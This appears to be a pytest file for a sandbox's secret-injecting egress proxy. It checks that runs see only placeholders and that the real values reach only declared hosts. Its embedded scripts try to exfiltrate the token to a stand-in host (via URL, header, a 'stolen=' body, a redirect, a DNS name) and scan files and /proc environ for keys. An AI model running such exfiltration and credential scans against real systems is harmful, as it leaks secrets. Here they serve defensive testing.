"""Secrets the code never sees (issue 37): the operator declares a secret (its value in the
server's environment, its hosts, where it goes); a run that asks for it by name sees only a
random placeholder, and the server's egress proxy puts the value into requests to the secret's
hosts, over TLS it terminates with the server's own CA and re-makes upstream, verified.

The test hosts live in a network namespace of this module's own (a veth pair, 198.51.100.128/25,
the upper half of the documentation range whose lower half the network tests use): dnsmasq answers the test names and logs every query, and one Python
process serves HTTPS for `api.secret.test` and `other.secret.test` (a certificate from a test CA
the server is told to trust with `[network] upstream_ca_file`) and plain HTTP for the second,
recording every request it gets. Every check is made from outside: what the hosts received, the
name server's log, the run's `network_log`, the data directory and the server's own log."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import ssl
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest

from backend_support import FORK_SERVER_ONLY
from conftest import call, connect
from netns_support import make_certificates, make_namespace, remove_namespace

pytestmark = pytest.mark.anyio

NS = f"snbs-{os.getpid()}"
HOST_SIDE, NS_SIDE = f"snsh{os.getpid() % 100000}", f"snsn{os.getpid() % 100000}"
DNS, API, OTHER = "198.51.100.130", "198.51.100.131", "198.51.100.132"
API_VALUE = "sk-live-" + os.urandom(12).hex()
HEADER_VALUE = "hk-" + os.urandom(12).hex()

# HTTPS on API:443 and OTHER:443, plain HTTP on OTHER:80: each request is appended to
# `requests.log` as JSON (the address it came to, the path, the headers, the body). The API host
# never echoes what it got (a host that reflects headers would hand the value to the run); its
# `/redirect` sends the client to the other host.
HOSTS = textwrap.dedent("""
    import http.server, json, ssl, sys, threading
    log_dir = sys.argv[1]
    lock = threading.Lock()
    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"
        def log_message(self, *args):
            pass
        def handle_any(self):
            length = int(self.headers.get("Content-Length") or 0)
            body = self.rfile.read(length).decode("utf-8", "replace") if length else ""
            record = {"server": self.server.name, "path": self.path, "headers": {k.lower(): v for k, v in self.headers.items()}, "body": body}
            with lock, open(f"{log_dir}/requests.log", "a") as f:
                f.write(json.dumps(record) + "\\n")
            if self.path.startswith("/redirect"):
                self.send_response(302)
                self.send_header("Location", "http://other.secret.test/landing")
                self.send_header("Content-Length", "0")
                self.end_headers()
                return
            reply = json.dumps({"server": self.server.name, "path": self.path}).encode()
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(reply)))
            self.end_headers()
            self.wfile.write(reply)
        do_GET = do_POST = handle_any
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(f"{log_dir}/host.pem", f"{log_dir}/host.key")
    for name, address, port, secure in [("api", sys.argv[2], 443, True), ("other", sys.argv[3], 443, True), ("other", sys.argv[3], 80, False)]:
        server = http.server.ThreadingHTTPServer((address, port), Handler)
        server.name = name
        if secure:
            server.socket = tls.wrap_socket(server.socket, server_side=True)
        threading.Thread(target=server.serve_forever, daemon=True).start()
    print("ready", flush=True)
    threading.Event().wait()
""")




@pytest.fixture(scope="module")
def secret_hosts(tmp_path_factory: pytest.TempPathFactory):
    if os.geteuid() != 0 or not shutil.which("ip") or not shutil.which("dnsmasq") or not shutil.which("openssl"):
        pytest.skip("needs root, iproute2, dnsmasq and openssl (scripts/install-deps installs them)")
    logs = tmp_path_factory.mktemp("secret-hosts")
    logs.chmod(0o777)
    processes: list[subprocess.Popen] = []
    try:
        inside = make_namespace(NS, HOST_SIDE, NS_SIDE, "198.51.100.129/25", [f"{address}/25" for address in (DNS, API, OTHER)])
        processes.append(subprocess.Popen(
            [*inside, "dnsmasq", "--no-daemon", "--no-resolv", "--no-hosts", "--bind-interfaces",
             f"--listen-address={DNS}", "--port=53", "--log-queries", f"--log-facility={logs}/dns.log",
             f"--address=/api.secret.test/{API}", f"--address=/other.secret.test/{OTHER}"],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        make_certificates(logs, ["api.secret.test", "other.secret.test"], "snakebox secrets test CA")
        hosts = subprocess.Popen([*inside, sys.executable, "-c", HOSTS, str(logs), API, OTHER],
                                 stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        processes.append(hosts)
        assert hosts.stdout is not None and hosts.stdout.readline().strip() == "ready"
        time.sleep(0.5)  # dnsmasq binds
        yield logs
    finally:
        for process in processes:
            process.kill()
            process.wait()
        remove_namespace(NS, HOST_SIDE)


def received(logs: Path) -> list[dict]:
    path = logs / "requests.log"
    return [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []


@pytest.fixture(scope="module")
def secrets_server(secret_hosts: Path, snakebox_bin: Path, tmp_path_factory: pytest.TempPathFactory):
    """The binary wrapped so its stderr (at debug level) lands in a file; a config file that
    declares a secret, and the environment that declares another and holds their values."""
    home = tmp_path_factory.mktemp("secrets-server")
    wrapper = home / "snakebox"
    wrapper.write_text(f"#!/bin/sh\nexec {snakebox_bin} \"$@\" 2>>{home}/server.log\n")
    wrapper.chmod(0o755)
    config = home / "config.toml"
    config.write_text(textwrap.dedent(f"""
        [network]
        mode = "on"
        resolvers = "{DNS}"
        upstream_ca_file = "{secret_hosts}/ca.pem"

        [secrets.API_TOKEN]
        env = "SNBT_API_TOKEN"
        hosts = ["api.secret.test"]
    """))
    # One secret declared in the environment instead of the file.
    declared = 'HEADER_KEY = { env = "SNBT_HEADER_KEY", hosts = ["api.secret.test"], header = "X-Api-Key: key {}" }'
    env = {"SNBT_API_TOKEN": API_VALUE, "SNBT_HEADER_KEY": HEADER_VALUE, "SNAKEBOX_SECRETS": declared, "SNAKEBOX_LOG": "debug"}
    return {"binary": wrapper, "args": ("--config", str(config)), "env": env, "log": home / "server.log"}


# What a run with secrets does, each attempt recorded with how it ended.
USES = textwrap.dedent("""
    import json, os, socket, ssl, urllib.request, requests
    token = os.environ["API_TOKEN"]
    out = {"token": token, "header_key": os.environ.get("HEADER_KEY"), "bundle": os.environ.get("SSL_CERT_FILE")}
    def attempt(name, fn):
        try:
            r = fn()
            out[name] = [r.status_code, r.text[:300]]
        except Exception as e:
            out[name] = ["error", type(e).__name__ + ": " + str(e)[:300]]
    auth = {"Authorization": f"Bearer {token}"}
    attempt("requests", lambda: requests.get("https://api.secret.test/data", headers=auth, timeout=20))
    with urllib.request.urlopen(urllib.request.Request("https://api.secret.test/urllib", headers=auth), timeout=20) as r:
        out["urllib"] = [r.status, r.read().decode()]
    # Exfiltration attempts: in the URL, in a header or the body to another host in clear
    # text, after a redirect, in a DNS name, and to another host over TLS (not intercepted).
    attempt("in_url", lambda: requests.get(f"https://api.secret.test/q?token={token}", timeout=20))
    attempt("header_elsewhere", lambda: requests.get("http://other.secret.test/h", headers=auth, timeout=20))
    attempt("body_elsewhere", lambda: requests.post("http://other.secret.test/b", data=f"stolen={token}", timeout=20))
    first = requests.get("https://api.secret.test/redirect", headers=auth, allow_redirects=False, timeout=20)
    attempt("redirect", lambda: requests.get(first.headers["Location"], headers=auth, timeout=20))
    attempt("dns_name", lambda: requests.get(f"https://{token}.secret.test/", timeout=20))
    # To a host without secrets, TLS is end to end: the run sees that host's own certificate
    # (read without verification through the proxy), and the placeholder it sends there is
    # only a placeholder.
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT other.secret.test:443 HTTP/1.1\\r\\nHost: other.secret.test:443\\r\\n\\r\\n")
    assert s.recv(4096).startswith(b"HTTP/1.1 200")
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    t = ctx.wrap_socket(s, server_hostname="other.secret.test")
    out["other_cert"] = t.getpeercert(binary_form=True).hex()
    t.sendall(b"GET /tls HTTP/1.1\\r\\nHost: other.secret.test\\r\\nAuthorization: Bearer " + token.encode() + b"\\r\\nConnection: close\\r\\n\\r\\n")
    out["tls_elsewhere"] = t.recv(4096).decode(errors="replace").split("\\r\\n")[0]
    t.close()
    s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
    s.sendall(b"CONNECT api.secret.test:443 HTTP/1.1\\r\\nHost: api.secret.test:443\\r\\n\\r\\n")
    s.recv(4096)
    t = ctx.wrap_socket(s, server_hostname="api.secret.test")
    out["api_cert"] = t.getpeercert(binary_form=True).hex()
    t.close()
    # Nothing the run can read holds a value: its environment, its files.
    out["environ_has_value"] = any("sk-live-" in v for v in os.environ.values())
    out["secrets_file"] = open("/snakebox/secrets.json").read()
    print(json.dumps(out))
""")

# The CA key: not at its host path, and no file the run can read is it (each file holding a
# private key is reported by its digest, compared outside with the key's). And no file the
# run can read holds a value (`sk-live-` starts the test's), its processes' environments
# included.
CA_KEY_PROBE = textwrap.dedent("""
    import hashlib, json, os
    NEEDLE = b"sk-" + b"live-"  # not written whole here: the script is a readable file too
    out = {}
    try:
        open("{KEY}").read()
        out["key_path"] = "READ"
    except OSError as e:
        out["key_path"] = e.errno
    digests, values = [], []
    for root in ["/snakebox", "/work", "/tmp", "/etc", "/opt", "/home", "/root", "/var", "/run", "/data"]:
        for d, dirs, files in os.walk(root, onerror=lambda e: None):
            for n in files:
                p = os.path.join(d, n)
                try:
                    if os.path.getsize(p) < 1 << 20:
                        content = open(p, "rb").read()
                        if b"PRIVATE KEY" in content:
                            digests.append(hashlib.sha256(content).hexdigest())
                        if NEEDLE in content:
                            values.append(p)
                except OSError:
                    pass
    out["keys"] = digests
    out["values"] = values
    for p in ["/proc/self/environ", "/proc/1/environ", "/proc/1/cmdline", "/proc/self/cmdline"]:
        try:
            if NEEDLE in open(p, "rb").read():
                values.append(p)
        except OSError:
            pass
    out["environ"] = os.environ["API_TOKEN"].startswith("snakebox-secret-")
    print(json.dumps(out))
""")


def der_of(pem_path: Path) -> str:
    return ssl.PEM_cert_to_DER_cert(pem_path.read_text()).hex()


async def test_a_run_uses_a_secret_it_never_sees(secret_hosts, secrets_server, tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    data_dir.chmod(0o755)
    server = secrets_server
    async with connect(server["binary"], data_dir, "auto", *server["args"], env=server["env"]) as client:
        report, _, _ = await call(client, "check_environment")
        listed = {s["name"]: s for s in report["secrets"]}
        assert listed["API_TOKEN"]["hosts"] == ["api.secret.test"], report["secrets"]
        assert listed["HEADER_KEY"]["header"] == "X-Api-Key"

        data, text, _ = await call(client, "execute_python", script=USES, secrets=["API_TOKEN", "HEADER_KEY"],
                                   dependencies=["requests>=2.31"], timeout_seconds=120)
        assert data["status"] == "ok", text
        out = json.loads(data["stdout"])
        token = out["token"]
        assert token.startswith("snakebox-secret-") and API_VALUE not in data["stdout"], out
        assert out["header_key"].startswith("snakebox-secret-") and out["header_key"] != token
        assert out["bundle"] == "/snakebox/ca-bundle.pem"
        assert not out["environ_has_value"]
        assert API_VALUE not in out["secrets_file"] and token in out["secrets_file"]
        # requests and urllib reached the API host through the proxy's TLS.
        assert out["requests"] == [200, '{"server": "api", "path": "/data"}'], out
        assert out["urllib"] == [200, '{"server": "api", "path": "/urllib"}'], out

        # From outside: the API host got the value (and the header secret), never the placeholder.
        got = received(secret_hosts)
        api = {r["path"]: r for r in got if r["server"] == "api"}
        for path in ("/data", "/urllib"):
            assert api[path]["headers"]["authorization"] == f"Bearer {API_VALUE}", api[path]
            assert api[path]["headers"]["x-api-key"] == f"key {HEADER_VALUE}", api[path]
        assert not any(token in json.dumps(r) for r in got if r["server"] == "api"), "a placeholder reached the API host"
        # Every exfiltration attempt was refused, or carried only the placeholder.
        assert out["in_url"][0] == 403 and "never in a URL" in out["in_url"][1], out["in_url"]
        assert "/q" not in str(list(api)), "a request with the placeholder in its URL reached the host"
        assert out["header_elsewhere"][0] == 403 and "not among its hosts" in out["header_elsewhere"][1], out
        assert out["body_elsewhere"][0] in (403, "error"), out["body_elsewhere"]
        assert out["redirect"][0] == 403, out["redirect"]
        assert out["dns_name"][0] == "error" and "403" in out["dns_name"][1], out["dns_name"]
        other = [r for r in got if r["server"] == "other"]
        # The clear-text attempts never delivered the placeholder (a header refused before any
        # connection; a body cut before it was forwarded; the redirect's request refused).
        assert [r["path"] for r in other if token in json.dumps(r)] == ["/tls"], other
        assert not any(r["path"] in ("/h", "/landing") for r in other), other
        tls = [r for r in other if r["path"] == "/tls"][0]
        assert tls["headers"]["authorization"] == f"Bearer {token}"  # only the worthless placeholder
        assert not any(API_VALUE in json.dumps(r) or HEADER_VALUE in json.dumps(r) for r in other)
        dns_log = (secret_hosts / "dns.log").read_text()
        assert "api.secret.test" in dns_log and token not in dns_log, "the placeholder was sent in a DNS query"
        # TLS to a host without secrets is the host's own; to the API host, the proxy's.
        assert out["other_cert"] == der_of(secret_hosts / "host.pem")
        assert out["tls_elsewhere"].startswith("HTTP/1.1 200"), out["tls_elsewhere"]
        assert out["api_cert"] != der_of(secret_hosts / "host.pem")
        issuer = subprocess.run(["openssl", "x509", "-inform", "DER", "-noout", "-issuer"], input=bytes.fromhex(out["api_cert"]),
                                capture_output=True, check=True).stdout.decode()
        assert "snakebox egress proxy CA" in issuer, issuer
        # The network log says what was refused, and why.
        log = data["network_log"]
        reasons = [e["reason"] for e in log if not e["allowed"]]
        assert any("never in a URL" in r for r in reasons), log
        assert any("other.secret.test" in e["host"] and "not among its hosts" in e["reason"] for e in log), log
        assert any("clear text" in r and "not forwarded" in r for r in reasons), log
        assert any("destination name holds the placeholder" in r for r in reasons), log
        assert any(e["allowed"] and "TLS terminated by the proxy" in e["reason"] for e in log), log

        # A run that did not ask gets nothing: no variable, no file, no trust in the proxy's CA.
        data, text, _ = await call(client, "execute_python", script=(
            "import os, json\nprint(json.dumps([os.environ.get('API_TOKEN'), os.path.exists('/snakebox/secrets.json'), os.environ.get('SSL_CERT_FILE')]))"))
        assert data["status"] == "ok" and json.loads(data["stdout"]) == [None, False, None], text

        # The CA key is out of reach.
        key_path = data_dir / "egress-ca" / "ca-key.pem"
        assert key_path.exists() and (key_path.stat().st_mode & 0o077) == 0
        assert (key_path.parent.stat().st_mode & 0o077) == 0
        data, text, _ = await call(client, "execute_python", script=CA_KEY_PROBE.replace("{KEY}", str(key_path)),
                                   secrets=["API_TOKEN"], timeout_seconds=60)
        assert data["status"] == "ok", text
        probe = json.loads(data["stdout"])
        assert probe["key_path"] == 2, probe
        assert probe["values"] == [] and probe["environ"] is True, probe
        assert hashlib.sha256(key_path.read_bytes()).hexdigest() not in probe["keys"], probe

        # Refusals say why and what to do.
        data, text, is_error = await call(client, "execute_python", script="print(1)", secrets=["NOPE"])
        assert is_error and "secret `NOPE`" in data["error"]["message"], text
        assert "API_TOKEN" in data["error"]["hint"] and "check_environment" in data["error"]["hint"]
        data, text, is_error = await call(client, "execute_python", script="print(1)", secrets=["API_TOKEN"], network=False)
        assert is_error and "no network" in data["error"]["message"], text
        session, _, _ = await call(client, "create_session")
        data, text, is_error = await call(client, "execute_python", script="print(1)", secrets=["API_TOKEN"],
                                          session_id=session["session_id"])
        assert is_error and "one-shot run only" in data["error"]["message"], text
        await call(client, "delete_session", session_id=session["session_id"])

    # The values are in no file of the data directory (results, runs table, audit log, the
    # runs' input directories) and not in the server's log, which did log the proxy's work.
    for value in (API_VALUE, HEADER_VALUE):
        found = subprocess.run(["grep", "-r", "-l", "-F", value, str(data_dir)], capture_output=True, text=True)
        assert found.stdout == "", f"a secret's value is stored in {found.stdout}"
        assert value not in server["log"].read_text()
    assert "network" in server["log"].read_text()


URLLIB = textwrap.dedent("""
    import json, os, urllib.request
    token = os.environ["API_TOKEN"]
    request = urllib.request.Request("https://api.secret.test/run{i}", headers={{"Authorization": "Bearer " + token}})
    with urllib.request.urlopen(request, timeout=20) as r:
        print(json.dumps([token, r.status]))
""")


@pytest.mark.parametrize("launch", [pytest.param("forked", marks=pytest.mark.native_only(FORK_SERVER_ONLY)), "pooled"])
async def test_every_launch_path_gets_its_secrets(secret_hosts, secrets_server, tmp_path, launch):
    """A cold run, then forked (fork server) or pooled (warm pool, whose proxy and runner were
    started before the run came) runs: each gets a placeholder of its own, and the value
    reaches the host for each."""
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    data_dir.chmod(0o755)
    server = secrets_server
    extra = ["--fork-server", "off"] if launch == "pooled" else []
    tokens = set()
    async with connect(server["binary"], data_dir, "auto", *server["args"], *extra, env=server["env"]) as client:
        for i in range(4):
            data, text, _ = await call(client, "execute_python", script=URLLIB.format(i=f"{launch}{i}"), secrets=["API_TOKEN"])
            assert data["status"] == "ok", text
            token, status = json.loads(data["stdout"])
            assert status == 200 and token.startswith("snakebox-secret-"), data["stdout"]
            tokens.add(token)
            if i == 0:
                time.sleep(3)  # let the pool learn the default and start its sandboxes
        report, _, _ = await call(client, "check_environment")
        pool = report["warm_pool"]
        assert pool["forked" if launch == "forked" else "served"] >= 1, pool
    assert len(tokens) == 4, "a placeholder was reused"
    got = {r["path"]: r for r in received(secret_hosts)}
    for i in range(4):
        assert got[f"/run{launch}{i}"]["headers"]["authorization"] == f"Bearer {API_VALUE}"
